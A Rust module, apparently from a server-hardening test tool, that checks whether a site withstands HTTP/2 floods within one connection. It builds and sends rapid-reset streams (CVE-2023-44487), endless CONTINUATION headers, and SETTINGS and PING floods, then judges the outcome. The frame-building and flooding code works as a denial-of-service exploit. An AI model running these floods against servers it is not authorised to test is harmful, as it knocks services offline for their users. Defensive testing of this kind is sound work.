//! Floods within one HTTP/2 connection (CWE-400, CWE-770; RFC 9113 §10.5).

use crate::Attack;
use crate::evidence::{evidence, not_proven, saw};
use crate::request::Request;
use crate::target::{Door, Layer, Target, TargetSite};
use crate::trial::{Trial, each_site};
use crate::wire::{Connection, Piece, Sent, Wire, now};
use burgrave_model::{Evidence, Outcome, Safeguard};
use std::time::Duration;

/// Frame types and flags (RFC 9113 §6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Most of each that is sent: a server that has not ended the connection by then does not.
const FLOOD_FRAMES: u32 = 20_000;
/// Bytes of header blocks that are sent without end.
const HEADER_BYTES: usize = 4 << 20;
/// Frames in one piece.
const BATCH_FRAMES: u32 = 200;
/// How long a good client may wait meanwhile.
const GOOD_TIME: Duration = Duration::from_secs(1);

pub(super) struct Floods;

impl Attack for Floods {
    fn id(&self) -> &'static str {
        "http2-floods"
    }

    fn safeguard(&self) -> Safeguard {
        Safeguard::DenialOfService
    }

    fn title(&self) -> &'static str {
        "one HTTP/2 connection that floods the server is ended, and others are served meanwhile"
    }

    fn about(&self) -> &'static str {
        "Over one connection each: opens requests and resets them at once (CVE-2023-44487), sends a \
         header without end in\nCONTINUATION frames (CWE-770, CVE-2024-27316), and floods of SETTINGS \
         and PING frames, each of which must be\nanswered; at most 20,000 frames or 4 MiB. Held means \
         that the connection was ended before, or that a good client beside it\nwas answered within a \
         second while all of it was taken; fell, that it was not.\n\nIf it fell: something in front of \
         Burgrave ends HTTP/2 in its place. Let it pass TCP on."
    }

    fn applies(&self, target: &Target) -> bool {
        target.sites.iter().filter_map(|site| site.door).any(|door| door.layer == Layer::Tls)
    }

    fn run(&self, target: &Target, wire: &mut Wire) -> Vec<Evidence> {
        each_site(target, |site, door| match door.layer {
            Layer::Tls => at_site(wire, site, door),
            Layer::Plain => Vec::new(),
        })
    }
}

/// What a flood is made of.
struct Flood {
    name: &'static str,
    /// The piece of this number, for a host and a path.
    piece: fn(u32, &str, &str) -> Vec<u8>,
    /// Whether a piece costs a server more than reading it: then it must not take all of them, even if
    /// nobody else has to wait.
    is_costly: bool,
}

const FLOODS: [Flood; 4] = [
    Flood { name: "requests that are reset at once", piece: resets, is_costly: true },
    Flood { name: "a header without end", piece: continuations, is_costly: true },
    Flood {
        name: "SETTINGS frames",
        piece: |_, _, _| frame(SETTINGS, 0, 0, &[]),
        is_costly: false,
    },
    Flood { name: "PING frames", piece: |_, _, _| frame(PING, 0, 0, &[0; 8]), is_costly: false },
];

fn at_site(wire: &mut Wire, site: &TargetSite, door: Door) -> Vec<Evidence> {
    let path = site.main_place().map_or("/", |place| place.path.as_str());
    let control = Request::new("GET", path, &site.host).bytes();
    let trial = match Trial::begin(wire, door, site, control) {
        Ok(trial) => trial,
        Err(evidence) => return vec![evidence],
    };
    FLOODS.iter().map(|flood| flooded(wire, &trial, flood, path)).collect()
}

fn flooded(wire: &mut Wire, trial: &Trial<'_>, flood: &Flood, path: &str) -> Evidence {
    let did = format!("{}, in one HTTP/2 connection to {}", flood.name, trial.host);
    let mut connection = match wire.open_http2(trial.door, trial.host) {
        Ok(Some(connection)) => connection,
        Ok(None) => return evidence(&did, "it does not speak HTTP/2", Outcome::Held),
        Err(reply) => return not_proven(&did, &saw(&reply)),
    };
    connection.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    connection.send(&frame(SETTINGS, 0, 0, &[]));
    let ended = send(&mut connection, flood.piece, trial.host, path);
    let begin = now();
    if !trial.alive(wire) {
        return evidence(&did, "nobody else is served any more", Outcome::Fell);
    }
    let waited = now().saturating_sub(begin);
    let (end, outcome) = match ended {
        End::Cut(frames) => (format!("ended within {frames} frames"), Outcome::Held),
        End::Late(frames) => (format!("{frames} frames took all the time"), Outcome::NotProven),
        End::Taken if flood.is_costly => ("all of it was taken".to_owned(), Outcome::Fell),
        End::Taken => ("each was answered".to_owned(), Outcome::Held),
    };
    let outcome = if waited < GOOD_TIME { outcome } else { Outcome::Fell };
    let saw = format!("{end}; a good client waited {:.2} s", waited.as_secs_f64());
    evidence(&did, &saw, outcome)
}

/// How a flood ended, with the number of frames until then.
enum End {
    /// By the other side.
    Cut(u32),
    /// By the time of the proof, which says nothing about the other side.
    Late(u32),
    Taken,
}

/// Sends the flood.
fn send(
    connection: &mut Connection,
    piece: fn(u32, &str, &str) -> Vec<u8>,
    host: &str,
    path: &str,
) -> End {
    let (mut sent, mut bytes) = (0, 0);
    while sent < FLOOD_FRAMES && bytes < HEADER_BYTES {
        let batch: Vec<u8> =
            (sent..sent + BATCH_FRAMES).flat_map(|number| piece(number, host, path)).collect();
        bytes += batch.len();
        sent += BATCH_FRAMES;
        match connection.send(&batch) {
            Sent::All => {}
            Sent::Cut => return End::Cut(sent),
            Sent::Late => return End::Late(sent),
        }
        // What it says must be read, or it could not go on saying it.
        loop {
            match connection.piece(Duration::from_millis(1)) {
                Piece::Bytes(_) => {}
                Piece::Quiet => break,
                Piece::Ended(_) => return End::Cut(sent),
            }
        }
    }
    match connection.piece(Duration::from_millis(500)) {
        Piece::Ended(_) => End::Cut(sent),
        Piece::Bytes(_) | Piece::Quiet => End::Taken,
    }
}

fn resets(number: u32, host: &str, path: &str) -> Vec<u8> {
    let stream = number * 2 + 1;
    let block =
        block(&[(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", host)]);
    let mut out = frame(HEADERS, END_STREAM | END_HEADERS, stream, &block);
    out.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
    out
}

fn continuations(number: u32, host: &str, path: &str) -> Vec<u8> {
    let more = block(&[("x-more", &"a".repeat(100))]).repeat(100);
    if number > 0 {
        return frame(CONTINUATION, 0, 1, &more);
    }
    let block =
        block(&[(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", host)]);
    [frame(HEADERS, END_STREAM, 1, &block), frame(CONTINUATION, 0, 1, &more)].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut out = length.get(1..).unwrap_or_default().to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// Fields without indexing and without coding (RFC 7541 §6.2.2).
fn block(fields: &[(&str, &str)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, value) in fields {
        out.push(0);
        for part in [name, value] {
            if let Ok(length @ 0..=126) = u8::try_from(part.len()) {
                out.push(length);
            } else {
                // A path of the configuration's may be longer: two bytes hold all that a proof sends.
                let rest = part.len().saturating_sub(127);
                let low = u8::try_from(rest % 128).unwrap_or(0) | 0x80;
                out.extend([127, low, u8::try_from(rest / 128).unwrap_or(0x7f) & 0x7f]);
            }
            out.extend_from_slice(part.as_bytes());
        }
    }
    out
}
